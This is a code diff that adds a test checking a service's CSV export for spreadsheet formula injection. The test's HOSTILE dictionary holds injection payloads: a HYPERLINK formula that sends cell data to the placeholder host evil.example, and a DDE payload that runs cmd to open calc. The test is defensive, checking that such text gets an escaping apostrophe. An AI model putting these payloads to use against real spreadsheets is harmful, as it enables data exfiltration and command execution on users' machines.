@@ -93,6 +93,36 @@ async def test_a_tag_where_it_is_not_usual_is_json_all_the_same(database_url: st
         assert (await response.json())["Points"] == [{"Timestamp": at(0), "Cushion": "n/a", "CashBalance": "many"}]
 
 
+HOSTILE = {
+    "TradingType": '=HYPERLINK("http://evil.example/?"&A2,"see, here")',
+    "AccountType": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "PlainFormula": "=1+1",
+    "Leading": "-1+1",
+    "Signed": "-0.00",
+    "Lines": "+1\\u000d\\u000a=2",
+}
+
+
+async def test_no_text_of_a_gateway_is_a_formula_in_a_spreadsheet(database_url: str) -> None:
+    stream = Stream(at=to_micros(FIRST))
+    sent = [value("AccountCode", "DU1"), value("NetLiquidation", "-0.50", "USD")]
+    stream.refresh({"DU1": [*sent, *(value(tag, text) for tag, text in HOSTILE.items())]}, created=to_micros(FIRST))
+    record(database_url, stream.events)
+    project(database_url)
+    path = f"/v1/accounts/DU1/history?tag=NetLiquidation,{','.join(HOSTILE)}"
+    async with serving(database_url) as served:
+        async with served.get(path) as response:
+            (point,) = (await response.json())["Points"]
+        async with served.get(path, headers={"Accept": "text/csv"}) as response:
+            header, row = csv.reader(io.StringIO(await response.text(), newline=""))
+    cells = dict(zip(header, row, strict=True))
+    assert (cells["NetLiquidation"], cells["Signed"]) == ("-0.50", "-0.00"), "figures are figures"
+    for tag in set(HOSTILE) - {"Signed"}:
+        assert cells[tag] == f"'{point[tag]}", "JSON has the text as it was sent"
+        assert point[tag][0] in "=+-@"
+    assert not any(name[:1] in "=+-@" for name in header)
+
+
 async def test_steps_take_the_last_value_and_show_gaps(database_url: str) -> None:
     build_world(database_url, 4, gap_after=1)  # at 0, 1, 5 and 6 hours
     async with serving(database_url) as served:
